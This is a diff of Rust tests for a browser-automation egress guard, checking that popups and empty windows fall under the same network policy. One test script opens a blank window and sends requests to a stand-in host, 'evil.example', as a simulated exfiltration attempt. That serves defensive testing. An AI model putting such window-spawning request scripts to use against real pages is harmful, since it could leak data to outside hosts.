@@ -3,7 +3,9 @@
 use browser_signals::playwright::{BridgeError, Browser, ObservationTarget, PageEvent, Tab};
 use browser_signals::{Container, EgressGuard};
 
-use crate::support::{Open, PATIENCE, Server, events_with, launch, launch_on_pipe, ref_of, tab, text_with};
+use crate::support::{
+    Open, PATIENCE, Server, events_with, launch, launch_by_playwright, ref_of, tab, text_with,
+};
 
 /// What a page does when its button is pressed, and the address of the page that opens.
 const WAYS: [(&str, &str); 2] = [
@@ -67,7 +69,7 @@ async fn a_page_that_opens_is_under_the_same_judge() {
     let server = Server::start();
     server.page("shop.example", "/popup", POPUP);
     server.page("pay.example", "/popup", POPUP);
-    let browser = launch_on_pipe(&server).await;
+    let browser = launch(&server).await;
     for (way, address) in WAYS {
         for tier in [Container::T0, Container::T2] {
             let tab = shop(&browser, &server, tier, way).await;
@@ -110,7 +112,7 @@ async fn a_page_that_opens_is_under_the_same_judge() {
 async fn a_window_without_a_link_to_its_opener_is_closed_and_its_address_is_known() {
     let server = Server::start();
     server.page("shop.example", "/popup", POPUP);
-    let browser = launch_on_pipe(&server).await;
+    let browser = launch(&server).await;
     for way in UNLINKED {
         for tier in [Container::T0, Container::T2] {
             let tab = shop(&browser, &server, tier, way).await;
@@ -133,7 +135,7 @@ async fn a_window_without_a_link_to_its_opener_is_closed_and_its_address_is_know
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_script_in_an_empty_window_is_judged() {
     let server = Server::start();
-    let browser = launch_on_pipe(&server).await;
+    let browser = launch(&server).await;
     let way = "w = window.open(''); w.eval(`document.title = typeof WebSocket; fetch('http://evil.example:PORT/from-empty'); \
                new Image().src = 'http://evil.example:PORT/from-empty'`); fetch('/on')";
     for (tier, sockets) in [(Container::T0, "function"), (Container::T2, "undefined")] {
@@ -158,7 +160,7 @@ async fn a_script_in_an_empty_window_is_judged() {
 async fn pages_are_opened_counted_forbidden_and_closed() {
     let server = Server::start();
     server.page("shop.example", "/popup", "<title>Offers</title><p>Offers<button>Press</button>");
-    let browser = launch_on_pipe(&server).await;
+    let browser = launch(&server).await;
     let first = shop(&browser, &server, Container::T2, "w = window.open('/popup')").await;
     assert_eq!(first.another().await.err(), Some(BridgeError::NotApplicable));
     first.let_pages_open(true);
@@ -193,7 +195,7 @@ async fn pages_are_opened_counted_forbidden_and_closed() {
 async fn no_page_begins_once_they_are_forbidden() {
     let server = Server::start();
     server.page("shop.example", "/popup", "<title>Offers</title><p>Offers");
-    let browser = launch_on_pipe(&server).await;
+    let browser = launch(&server).await;
     let way =
         "setInterval(() => { const w = window.open('/popup'); setTimeout(() => w && w.close(), 15); }, 4)";
     for _ in 0..5 {
@@ -218,7 +220,7 @@ async fn no_page_begins_once_they_are_forbidden() {
 async fn beside_playwright_no_page_opens() {
     let server = Server::start();
     server.page("shop.example", "/popup", POPUP);
-    let browser = launch(&server).await;
+    let browser = launch_by_playwright(&server).await;
     let tab = shop(&browser, &server, Container::T2, WAYS[0].0).await;
     tab.let_pages_open(true);
     assert_eq!(tab.another().await.err(), Some(BridgeError::NotApplicable));
